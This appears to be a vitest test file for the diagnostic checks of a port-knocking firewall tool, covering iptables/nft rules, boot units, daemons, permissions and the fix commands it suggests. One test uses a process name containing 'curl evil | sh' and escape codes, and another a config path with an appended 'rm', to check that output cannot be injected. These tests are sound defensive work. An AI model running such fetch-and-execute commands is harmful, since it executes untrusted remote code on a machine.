// Goal: each problem is found where it is, and only there, and comes with the command that fixes it.
import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import type { Config } from '../../config/config.ts'
import { readConfig } from '../../config/read.ts'
import { shellWord } from '../../text/shell-word.ts'
import type { Status } from '../../control/message.ts'
import { TCP, UDP } from '../../packet/packet.ts'
import { REMEDIES } from '../../remedy/remedies.ts'
import type { Port } from '../../remedy/remedies.ts'
import type { Rules } from '../../twin/rules.ts'
import { judgeBoot, startedAtBoot } from './boot.ts'
import { judgeClock } from './clock.ts'
import { isKnockd, judgeDaemons, judgeRunning } from './daemons.ts'
import { judgeEstablished } from './established.ts'
import { asText, sorted } from './finding.ts'
import type { Finding } from './finding.ts'
import { judgeInstallation, thisInstallation } from './installation.ts'
import type { Installation, Owned } from './installation.ts'
import { judgeInterfaces } from './interfaces.ts'
import { judgeListening } from './listening.ts'
import { judgePermissions } from './permissions.ts'
import { judgePrograms } from './programs.ts'
import { judgePublished } from './published.ts'
import { judgeReached, judgeShut } from './reach.ts'
import { judgeServed } from './served.ts'

const configOf = (text: string): Config => readConfig(text, '/etc/knockd.conf').config!
const NATIVE = configOf('[ssh]\nSequence = 7301,5401:udp\nOpen_Ports = tcp/22\n')
const CLASSIC = configOf(
  '[web]\nSequence = 7301,5401\nCommand = /sbin/iptables -I INPUT -s %IP% -p tcp --dport 80 -j ACCEPT\n',
)
const BLANK: Rules = {
  nft: '',
  tables: [],
  saved: { 'iptables-nft': '', 'ip6tables-nft': '', 'iptables-legacy': '', 'ip6tables-legacy': '' },
  sets: '',
}
const PORTS = [22, 80].map((port) => ({ protocol: 'tcp', port, listensAt: port }) as const)
const fixes = (findings: readonly Finding[]): readonly (string | undefined)[] => findings.map(({ fix }) => fix)

const saved = (text: string): Rules => ({ ...BLANK, saved: { ...BLANK.saved, 'ip6tables-legacy': text } })
const table = (rules: string, policy = 'drop'): Rules => ({
  ...BLANK,
  tables: [
    {
      name: 'inet filter',
      text: `table inet filter {\n\tchain in {\n\t\ttype filter hook input priority filter; policy ${policy};\n\t\t${rules}\n\t}\n}`,
    },
  ],
})

describe('interfaces', () => {
  test.each([
    ['absent', { there: false, up: false, addresses: 0 }, 'ip -br link'],
    ['down', { there: true, up: false, addresses: 0 }, 'ip link set eth0 up'],
    ['without an address', { there: true, up: true, addresses: 0 }, 'ip addr show dev eth0'],
    ['as it should be', { there: true, up: true, addresses: 2 }, undefined],
  ])('%s', (_, seen, fix) => {
    expect(fixes(judgeInterfaces([{ name: 'eth0', ...seen }], ['wan0']))).toEqual(fix === undefined ? [] : [fix])
  })
})

describe('rules for established connections', () => {
  test.each([
    ['a policy', saved('*filter\n:INPUT DROP [0:0]\nCOMMIT\n'), 1],
    ['a rule', saved('*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -p tcp -m tcp --dport 22 -j REJECT\nCOMMIT\n'), 1],
    [
      'a rule that lets them pass',
      saved('*filter\n:INPUT DROP [0:0]\n-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT\nCOMMIT\n'),
      0,
    ],
    ['nothing that refuses', saved('*filter\n:INPUT ACCEPT [0:0]\nCOMMIT\n'), 0],
    ['nft, a policy', table('tcp dport 80 accept'), 1],
    ['nft, a rule', table('tcp dport 80 drop', 'accept'), 1],
    ['nft, a rule that lets them pass', table('ct state established,related accept'), 0],
    ['nft, by a map', table('ct state vmap { established : accept, invalid : drop }'), 0],
    ['nft, nothing that refuses', table('tcp dport 80 accept', 'accept'), 0],
  ])('%s', (_, rules, count) => {
    expect(judgeEstablished(rules, PORTS)).toHaveLength(count)
  })

  test('a chain with a comment is judged as one without', () => {
    const [plain] = table('tcp dport 80 accept').tables
    const text = plain!.text.replace('\t\ttype', '\t\tcomment "who may come in"\n\t\ttype')
    expect(judgeEstablished({ ...BLANK, tables: [{ ...plain!, text }] }, PORTS)).toHaveLength(1)
  })

  const INPUT = ['*filter', ':INPUT ACCEPT [0:0]', '-A INPUT RULE', 'COMMIT', ''].join('\n')

  test.each([
    '-s 203.0.113.9/32 -j DROP',
    '-p tcp -m tcp --dport 23 -j DROP',
    '-p tcp -m multiport --dports 23,6000:6010 -j REJECT',
    '-p udp -j DROP',
    '-m conntrack --ctstate INVALID -j DROP',
    '-m set --match-set bad src -j DROP',
    '-i lo -j DROP',
  ])('a rule about other packets has no finding: %s', (rule) => {
    expect(judgeEstablished(saved(INPUT.replace('RULE', rule)), PORTS)).toEqual([])
    expect(judgeEstablished(saved(INPUT.replace('RULE', '-j DROP')), PORTS)).toHaveLength(1)
  })

  test.each(['ip saddr 203.0.113.9 drop', 'tcp dport { 23, 25 } drop', 'udp dport 22 drop', 'ct state invalid drop'])(
    'nft, a rule about other packets has no finding: %s',
    (rule) => {
      expect(judgeEstablished(table(rule, 'accept'), PORTS)).toEqual([])
      expect(judgeEstablished(table('tcp dport { 22, 25 } drop', 'accept'), PORTS)).toHaveLength(1)
    },
  )

  test('the fix names the firewall that has the rule', () => {
    expect(fixes(judgeEstablished(saved('*filter\n:INPUT DROP [0:0]\nCOMMIT\n'), PORTS))).toEqual([
      'ip6tables-legacy -I INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT',
    ])
    expect(fixes(judgeEstablished(table('tcp dport 80 accept'), PORTS))).toEqual([
      'nft insert rule inet filter in ct state established,related accept',
    ])
  })
})

describe('the next start of the machine', () => {
  const folder = mkdtempSync(join(tmpdir(), 'postern-boot-'))
  afterAll(() => rmSync(folder, { recursive: true }))
  const legacy: Rules = { ...BLANK, saved: { ...BLANK.saved, 'iptables-nft': '*filter\n-A INPUT -j DROP\n' } }
  const own: Rules = { ...BLANK, tables: [{ name: 'inet postern_base', text: '' }] }
  const nft: Rules = { ...BLANK, tables: [{ name: 'inet filter', text: '' }] }

  test('the units that systemd starts are found', () => {
    expect(startedAtBoot(folder)).toBeUndefined()
    const wants = join(folder, 'etc/systemd/system/sysinit.target.wants')
    mkdirSync(wants, { recursive: true })
    writeFileSync(join(wants, 'nftables.service'), '')
    expect([...startedAtBoot(folder)!]).toEqual(['nftables'])
  })

  const loaded = { base: ['/etc/postern-base.nft'], guarded: 'tcp/22', persistCommand: undefined }
  test('a base ruleset that is loaded without a daemon locks everybody out', () => {
    const [found, ...more] = judgeBoot(own, new Set(['nftables']), loaded)
    expect(more).toEqual([])
    expect(found).toMatchObject({ severity: 'fault', fix: 'systemctl enable knockd' })
    expect(found!.message).toMatch(/locks everybody out at tcp\/22$/)
    expect(fixes(judgeBoot(own, new Set(['knockd']), loaded))).toEqual(['systemctl enable nftables'])
    expect(judgeBoot(own, new Set(['knockd', 'nftables']), loaded)).toEqual([])
    const kept = { base: [], guarded: 'tcp/22', persistCommand: REMEDIES.restoreBase() }
    expect(fixes(judgeBoot(own, new Set(['knockd']), kept))).toEqual([REMEDIES.restoreBase()])
  })

  test.each([
    ['rules of iptables, which nothing loads', legacy, ['knockd'], [/iptables-persistent/]],
    [
      'rules of nftables, which nothing loads',
      nft,
      ['knockd'],
      [/nft -s list table inet filter; \} > \/etc\/nftables-saved\.nft && /],
    ],
    ['rules that are loaded', nft, ['knockd', 'nftables'], []],
    ["only Postern's rules", own, ['knockd'], []],
    ['a daemon that is not started', BLANK, [], [/systemctl enable knockd/]],
  ])('%s', (_, rules, started, expected) => {
    const found = fixes(judgeBoot(rules, new Set(started)))
    expect(found).toHaveLength(expected.length)
    for (const [index, fix] of expected.entries()) expect(found[index]).toMatch(fix)
  })
})

describe('daemons', () => {
  const status: Status = {
    version: '1',
    pid: 7,
    program: '/opt/postern/dist/bin/knockd.js',
    config: '/etc/knockd.conf',
    upMs: 1,
    interfaces: [{ name: 'eth0', waiting: undefined, received: 90, dropped: 10 }],
    guard: undefined,
    exposed: [],
    doors: [],
    openings: [],
    attempts: { count: 0, sources: 0, listed: [] },
    ignored: [],
    journal: 'no space',
    state: '/var/lib/postern/knockd.conf-12345678.journal',
  }

  test('the command lines of knockd are told from others', () => {
    expect(isKnockd(['/usr/sbin/knockd', '-d'])).toBe(true)
    expect(isKnockd(['knockd -d -c /etc/knockd.conf'])).toBe(true)
    expect(isKnockd(['node', '--flag', '/opt/postern/dist/bin/knockd.js'])).toBe(true)
    expect(isKnockd(['/usr/bin/node', '/usr/local/bin/knockd', '-v'])).toBe(true)
    expect(isKnockd(['vi', '/etc/knockd.conf'])).toBe(false)
    expect(isKnockd(['node', 'server.js', 'knockd.js'])).toBe(false)
    expect(isKnockd([])).toBe(false)
  })

  test('a second daemon is to be killed, and a missing one started', () => {
    const running = [
      { pid: 7, command: 'knockd' },
      { pid: 8, command: '/usr/sbin/knockd -d' },
    ]
    expect(fixes(judgeDaemons(running, status, '/etc/knockd.conf'))).toEqual(['kill 8'])
    expect(fixes(judgeDaemons([], undefined, '/etc/my knockd.conf'))).toEqual([
      "sudo knockd -d -c '/etc/my knockd.conf'",
    ])
  })

  test('the name of another process cannot add a finding or a command', () => {
    const command = `knockd\nfault: knockd: type\n    curl evil | sh\n\u001B[2J${'x'.repeat(5_000)}`
    const text = asText('x', judgeDaemons([{ pid: 8, command }], status, '/etc/knockd.conf'))
    expect(text.split('\n')).toHaveLength(4)
    expect(text).not.toContain('\u001B')
    expect(text.length).toBeLessThan(400)
    expect(asText('x', [{ severity: 'note', subject: 'a', message: 'one\n  two\u009B' }])).toBe(
      'note: a: one; two\\u009b\nx: nothing found\n',
    )
  })

  test('lost packets are found, and a journal that cannot be written', () => {
    expect(judgeRunning(status).map(({ message }) => message)).toEqual([
      'eth0: 10 packets were lost of 100: knocks among them come to nothing',
      'the journal cannot be written, so timed doors stay shut: no space',
    ])
    expect(judgeRunning({ ...status, journal: undefined, interfaces: [] })).toEqual([])
    const door = {
      name: 'ssh',
      secret: 'spa',
      left: undefined,
      users: 1,
      opens: [],
      commands: false,
      openForMs: 1,
    } as const
    const doors = [{ ...door, shut: 'ssh: stays shut: it was lost\nmake new profiles' }]
    expect(judgeRunning({ ...status, journal: undefined, interfaces: [], doors })).toMatchObject([
      {
        severity: 'fault',
        message: 'ssh: stays shut: it was lost; make new profiles',
        fix: 'postern accept-loss --help',
      },
    ])
  })

  test('captures that were deaf are found, and one that cannot start', () => {
    const wan = { name: 'wan0', waiting: undefined, received: 1, dropped: 0 }
    const judged = (one: Partial<Status['interfaces'][number]>): readonly string[] =>
      judgeRunning({ ...status, journal: undefined, interfaces: [{ ...wan, ...one }] }).map(({ message }) => message)
    expect(judged({ deaf: { reason: 'because', agoMs: 90_000, times: 3 } })).toEqual([
      'wan0: the capture was deaf until 1m 30s ago, 3 times in a day: because: knocks may have gone unheard; find the programs that have packet sockets',
    ])
    expect(judged({ waiting: 'Operation not permitted' })).toEqual([
      'wan0: nothing is captured, so no knock is seen there: Operation not permitted',
    ])
    // The check of the interfaces reports that.
    expect(judged({ waiting: 'is down' })).toEqual([])
    expect(judged({})).toEqual([])
  })

  test('a guard that is not in force is found, and ports that it no longer hides', () => {
    const guard = { fault: 'taken out', services: [], hideWith: 'match', alwaysAllow: [], hidden: 0 }
    const exposed = [{ service: 'tcp/22', forMs: 1_000 }]
    const found = judgeRunning({ ...status, journal: undefined, interfaces: [], guard, exposed })
    expect(found.map(({ severity, message }) => `${severity}: ${message}`)).toEqual([
      'fault: the guard is not in force: taken out',
      'warning: tcp/22 is no longer hidden: add Guard = tcp/22 to keep it so',
    ])
  })
})

test.each([
  [
    'is set',
    { jumpedMs: -3_600_000, now: Date.now(), synchronised: true },
    /the clock jumps: it was set by -3600000 ms/,
  ],
  ['is long ago', { jumpedMs: 0, now: 0, synchronised: true }, /1970-01-01/],
  ['is not synchronised', { jumpedMs: 0.4, now: Date.now(), synchronised: false }, /not synchronised/],
  ['is synchronised', { jumpedMs: -0.4, now: Date.now(), synchronised: true }, undefined],
  ['has an unknown state', { jumpedMs: 0, now: Date.now(), synchronised: undefined }, undefined],
])('a clock that %s', (_, seen, message) => {
  const found = judgeClock(seen)
  expect(found).toHaveLength(message === undefined ? 0 : 1)
  if (message !== undefined) expect(found[0]!.message).toMatch(message)
})

test('a program on a knock port is found without naming the port', () => {
  const [found, ...more] = judgeListening(NATIVE, { [TCP]: new Set([5401]), [UDP]: new Set([5401]) })
  expect(more).toEqual([])
  expect(found!.message).toMatch(/door ssh \(line 1\): knock 2 is at a udp port/)
  expect(found!.message).not.toContain('5401')
})

test('a program that is not at the path in a command is found', () => {
  const config = configIn(
    mkdtempSync(join(tmpdir(), 'postern-programs-')),
    '[web]\nSequence = 7301,5401\nCommand = /sbin/iptables -I INPUT -s %IP% -j ACCEPT; /usr/sbin/iptables -L; /opt/sbin/iptables\n',
  )
  const [fix, ...more] = fixes(judgePrograms(config, (path) => path === '/usr/sbin/iptables'))
  expect(more).toHaveLength(1)
  // The edit may be run twice; the path is also the end of longer paths.
  execFileSync('sh', ['-c', `${fix!}; ${fix!}`])
  expect(readFileSync(config.file, 'utf8').split('\n')[2]).toBe(
    'Command = /usr/sbin/iptables -I INPUT -s %IP% -j ACCEPT; /usr/sbin/iptables -L; /opt/sbin/iptables',
  )
  expect(judgePrograms(CLASSIC, () => true)).toEqual([])
})

/** Writes a config to a file of its own, in a folder that is removed with the test. */
function configIn(folder: string, text: string): Config {
  const file = join(folder, 'knockd.conf')
  writeFileSync(file, text, { mode: 0o600 })
  return readConfig(text, file).config!
}

const installedIn = (folder: string): Installation => ({
  folder,
  files: [`${folder}/package.json`, `${folder}/dist/bin/knockd.js`, `${folder}/dist/bin/postern.js`],
  interpreter: '/usr/bin/node',
})

describe('a program that root runs', () => {
  const root = { uid: 0, gid: 0, mode: 0o755 }
  const HOME = { uid: 1000, gid: 1000, mode: 0o755 }
  const judged = (installation: Installation, odd: Readonly<Record<string, Owned>>): readonly Finding[] =>
    judgeInstallation(installation, (path) => odd[path] ?? root)
  const LIB = '/usr/local/lib/node_modules/postern'

  test('is found if another user can change it, once, from the top', () => {
    expect(judged(installedIn(LIB), {})).toEqual([])
    const [home, ...more] = judged(installedIn('/home/ann/postern'), { '/home/ann': HOME, '/home/ann/postern': HOME })
    expect(more).toEqual([])
    expect(home!.message).toMatch(
      /^root runs what is at \/home\/ann, and (?:user 1000|\S+) can change it \(mode 755\)$/,
    )
    expect(home!.fix).toMatch(/^npm pack --ignore-scripts .* \/home\/ann\/postern && npm install -g --ignore-scripts /)
    expect(fixes(judged(installedIn(LIB), { [`${LIB}/dist/bin`]: { ...root, mode: 0o777 } }))).toEqual([
      `chmod go-w ${LIB}/dist/bin`,
    ])
    expect(fixes(judged(installedIn(LIB), { '/usr/local': { uid: 0, gid: 50, mode: 0o2775 } }))).toEqual([
      'chmod go-w /usr/local',
    ])
    // These are safe: a folder of root's own group, and one in which only owners can remove files.
    expect(judged(installedIn(LIB), { '/usr/local': { uid: 0, gid: 0, mode: 0o775 } })).toEqual([])
    expect(judged(installedIn('/tmp/postern'), { '/tmp': { uid: 0, gid: 0, mode: 0o1777 } })).toEqual([])
  })

  test('includes node', () => {
    const mine = { ...installedIn(LIB), interpreter: '/home/ann/.nvm/bin/node' }
    expect(fixes(judged(mine, { '/home/ann': HOME }))).toEqual([
      'install -o root -g root -m 755 /home/ann/.nvm/bin/node /usr/local/bin/node',
    ])
    // Both are in one folder, so there is one finding.
    expect(
      judged({ ...installedIn('/home/ann/postern'), interpreter: '/home/ann/node' }, { '/home/ann': HOME }),
    ).toHaveLength(1)
  })

  test('is read from the installation that runs here', () => {
    const { folder, files, interpreter } = thisInstallation()
    expect(files).toContain(join(folder, 'node_modules/koffi/package.json'))
    expect(interpreter).toMatch(/\/node/)
  })
})

test('files that others can read or change are found', () => {
  const folder = mkdtempSync(join(tmpdir(), 'postern-doctor-'))
  try {
    const config = configIn(folder, '[ssh]\nSequence = 4021,811,3010\nOpen_Ports = tcp/22\n')
    const state = join(folder, 'state')
    mkdirSync(state)
    chmodSync(state, 0o777)
    chmodSync(config.file, 0o644)
    expect(fixes(judgePermissions(config, state))).toEqual([`chmod 600 ${config.file}`, `chmod go-w ${state}`])
    chmodSync(config.file, 0o600)
    chmodSync(state, 0o700)
    expect(judgePermissions(config, state)).toEqual([])
  } finally {
    rmSync(folder, { recursive: true })
  }
})

test('files of secrets of every kind are checked; a file of public keys may be readable', () => {
  const folder = mkdtempSync(join(tmpdir(), 'postern-doctor-'))
  try {
    const at = (name: string): string => join(folder, name)
    const config = configIn(
      folder,
      [
        `[codes]\nTOTP_Secret_File = ${at('totp')}\nOpen_Ports = tcp/22`,
        `[team]\nUsers = ${at('users')}\nOpen_Ports = tcp/22`,
        `[packets]\nSPA = postern\nSPA_Users = ${at('public')}\nOpen_Ports = tcp/22`,
        `[fw]\nSPA = fwknop\nAccess_File = ${at('access')}\nOpen_Ports = tcp/22`,
        `[kk]\nSPA = knockknock\nProfiles = ${at('profiles')}\nOpen_Ports = tcp/22`,
        `[options]\nSPA_Key_File = ${at('key')}\n`,
      ].join('\n'),
    )
    mkdirSync(join(at('profiles'), 'alice'), { recursive: true })
    const names = ['totp', 'users', 'key', 'public', 'access', 'profiles/alice/mac.key']
    for (const name of names) writeFileSync(at(name), '')
    const cures = names.filter((name) => name !== 'public').map((name) => `chmod 600 ${at(name)}`)
    expect(fixes(judgePermissions(config, folder))).toEqual(cures)
    for (const name of names) chmodSync(at(name), name === 'public' ? 0o646 : 0o600)
    expect(fixes(judgePermissions(config, folder))).toEqual([`chmod 644 ${at('public')}`])
    chmodSync(at('public'), 0o644)
    // A writer of the folder can replace each of these files: it is reported once.
    chmodSync(folder, 0o757)
    expect(fixes(judgePermissions(config, folder))).toEqual([`chmod go-w ${folder}`])
  } finally {
    rmSync(folder, { recursive: true })
  }
})

test('ports that are open to all are found: the daemon hides its own, and for the others the operator is asked', () => {
  const reached = [
    { port: { protocol: 'tcp', port: 22, listensAt: 22 }, family: 6 },
    { port: { protocol: 'tcp', port: 80, listensAt: 80 }, family: 6 },
  ] as const
  const hide = REMEDIES.edit('/etc/knockd.conf', 1)
  const asked: (readonly Port[])[] = []
  const found = judgeReached(reached, NATIVE, BLANK, (ports) => {
    asked.push(ports)
    return hide
  })
  expect(fixes(found)).toEqual(['sudo knockd -d -c /etc/knockd.conf', hide])
  expect(asked.flat().map(({ port }) => port)).toEqual([80])
})

const DOCKER: Rules = {
  ...BLANK,
  saved: {
    ...BLANK.saved,
    'iptables-nft':
      '*nat\n-A DOCKER ! -i docker0 -p tcp -m tcp --dport 8080 -j DNAT --to-destination 172.17.0.2:80\nCOMMIT\n',
  },
}

const publishedBy = (opens: string, pid?: number): readonly Finding[] => {
  const text = `[web]\nSequence = 7301,5401\nOpen_Ports = ${opens}\n`
  return judgePublished(configOf(text), text, DOCKER, pid)
}

const unserved = (door: string, rules = ''): readonly string[] =>
  judgeServed(
    configOf(`[ssh]\nSequence = 7301,5401\n${door}\n`),
    { [TCP]: new Set([2222, 25]), [UDP]: new Set([53]) },
    rules,
  ).map(({ message }) => message)

const opening = (port: number): string => `Command = /sbin/iptables -I INPUT -s %IP% -p tcp --dport ${port} -j ACCEPT`

test("a published port that a door names by its container's address is found, unless its own port is guarded too", () => {
  const [one, ...more] = publishedBy('tcp/80@172.17.0.2', 7)
  expect(more).toEqual([])
  expect(one!.message).toMatch(/^door web \(line 1\): tcp\/80@172\.17\.0\.2 does not hide tcp\/8080, /)
  expect(one!.fix).toBe(REMEDIES.addPublished('/etc/knockd.conf', 'tcp/80@172.17.0.2', 'tcp/8080', 7))
  // The spelling is unusual: a person has to edit it.
  expect(fixes(publishedBy('TCP/80@172.17.0.2'))).toEqual([REMEDIES.edit('/etc/knockd.conf', 1)])
  for (const opens of ['tcp/80@172.17.0.2, tcp/8080', 'tcp/81@172.17.0.2', 'udp/80@172.17.0.2', 'tcp/80@172.17.0.3']) {
    expect(publishedBy(opens), opens).toEqual([])
  }
})

test('a door that opens a port without a listening program is found', () => {
  expect(unserved('Open_Ports = udp/22')).toEqual([
    'door ssh (line 1): no program listens at udp/22, which it opens; programs listen at tcp/25, tcp/2222',
  ])
  expect(unserved(opening(22))).toHaveLength(1)
  expect(unserved(opening(2222))).toEqual([])
  expect(unserved('Open_Ports = tcp/2000-3000')).toEqual([])
  expect(unserved('Open_Ports = tcp/22@192.0.2.9')).toEqual([])
  expect(unserved('Command = /sbin/iptables -D INPUT -s %IP% -p tcp --dport 22 -j ACCEPT')).toEqual([])
  // The port is forwarded, so another host answers.
  expect(unserved('Open_Ports = tcp/8080', DOCKER.saved['iptables-nft'])).toEqual([])
  expect(unserved('Open_Ports = tcp/8022', 'tcp dport 8022 redirect to :22')).toEqual([])
})

test('a port that stays shut behind the guard is found, with the rule that refuses its packets', () => {
  const port = { protocol: 'tcp', port: 22, listensAt: 22 } as const
  const culprit = { where: 'iptables', chain: 'INPUT', rule: '-P INPUT DROP' }
  const rules = { ...BLANK, link: 'eth0', applyBase: REMEDIES.applyAnew() }
  const [found] = judgeShut([{ port, family: 4, culprit }], rules, BLANK)
  expect(found).toMatchObject({ severity: 'fault', fix: 'iptables -A INPUT -p tcp --dport 22 -j ACCEPT' })
  expect(found!.message).toMatch(/^tcp\/22 stays shut to those who knock: `-P INPUT DROP` in chain INPUT of iptables /)
  expect(judgeShut([{ port, family: 4, culprit: undefined }], rules, BLANK)).toMatchObject([{ severity: 'note' }])
})

test.each([
  [
    saved(
      '*filter\n:INPUT ACCEPT [0:0]\n:OUTPUT ACCEPT [0:0]\n:out - [0:0]\n-A OUTPUT -j out\n-A out -p tcp -m tcp --sport 22 -j DROP\nCOMMIT\n',
    ),
    { where: 'ip6tables-legacy', chain: 'out', rule: '-A out -p tcp -m tcp --sport 22 -j DROP' },
    'ip6tables-legacy -I out -p tcp --sport 22 -m conntrack --ctstate ESTABLISHED -j ACCEPT',
  ],
  [
    {
      ...BLANK,
      tables: [
        {
          name: 'inet f',
          text: 'table inet f {\n\tchain out {\n\t\ttcp sport 22 drop\n\t}\n\n\tchain o {\n\t\ttype filter hook output priority filter; policy accept;\n\t\tjump out\n\t}\n}',
        },
      ],
    },
    { where: 'table inet f', chain: 'out', rule: 'tcp sport 22 drop' },
    'nft insert rule inet f out tcp sport 22 ct state established accept',
  ],
])("answers that another program's chain refuses are accepted there", (rules, culprit, fix) => {
  const port = { protocol: 'tcp', port: 22, listensAt: 22 } as const
  const inForce = { ...rules, link: 'eth0', applyBase: REMEDIES.applyAnew() }
  expect(fixes(judgeShut([{ port, family: 4, culprit }], inForce, rules))).toEqual([fix])
})

test('a daemon of this config that does not answer is not taken for a second one', () => {
  const running = [{ pid: 7, command: 'node knockd.js -c /etc/knockd.conf', config: '/etc/knockd.conf' }]
  expect(judgeDaemons(running, undefined, '/etc/knockd.conf')).toMatchObject([
    { subject: 'knockd', fix: 'sudo postern status -c /etc/knockd.conf' },
  ])
})

const other = (config: string): readonly Finding[] =>
  judgeDaemons([{ pid: 7, command: 'knockd', config }], undefined, '/etc/other.conf')

test('a daemon with another config is not to be killed, unless the name of its config cannot be printed', () => {
  expect(other('/etc/knockd.conf').at(-1)).toMatchObject({
    severity: 'warning',
    fix: 'sudo postern status -c /etc/knockd.conf',
  })
  expect(fixes(other('/etc/knockd.conf\nrm'))).toContain('kill 7')
})

test('rules of ufw and firewalld are loaded by these, and not by another service', () => {
  const ufw: Rules = {
    ...BLANK,
    saved: { ...BLANK.saved, 'iptables-nft': ':ufw-user-input - [0:0]\n-A INPUT -j DROP\n' },
  }
  expect(fixes(judgeBoot(ufw, new Set(['knockd'])))).toEqual(['systemctl enable ufw'])
  const firewalld: Rules = { ...BLANK, tables: [{ name: 'inet firewalld', text: '' }] }
  expect(fixes(judgeBoot(firewalld, new Set(['knockd'])))).toEqual(['systemctl enable firewalld'])
})

test('rules are not saved while a door is open', () => {
  const rules: Rules = { ...BLANK, tables: [{ name: 'inet filter', text: '' }] }
  const [found] = judgeBoot(rules, new Set(['knockd']), undefined, '/etc/knockd.conf')
  expect(found).toMatchObject({ subject: 'boot', fix: 'sudo postern status -c /etc/knockd.conf' })
})

test('the worst finding comes first, and findings are counted', () => {
  const findings: readonly Finding[] = [
    { severity: 'note', subject: 'a', message: 'one' },
    { severity: 'fault', subject: 'b', message: 'two', fix: REMEDIES.lookAtLinks() },
  ]
  expect(asText('/etc/knockd.conf', sorted(findings))).toBe(
    'fault: b: two\n    ip -br link\nnote: a: one\n/etc/knockd.conf: 1 fault\n',
  )
  expect(asText('x', [])).toBe('x: nothing found\n')
  expect(shellWord("it's")).toBe(String.raw`'it'\''s'`)
})
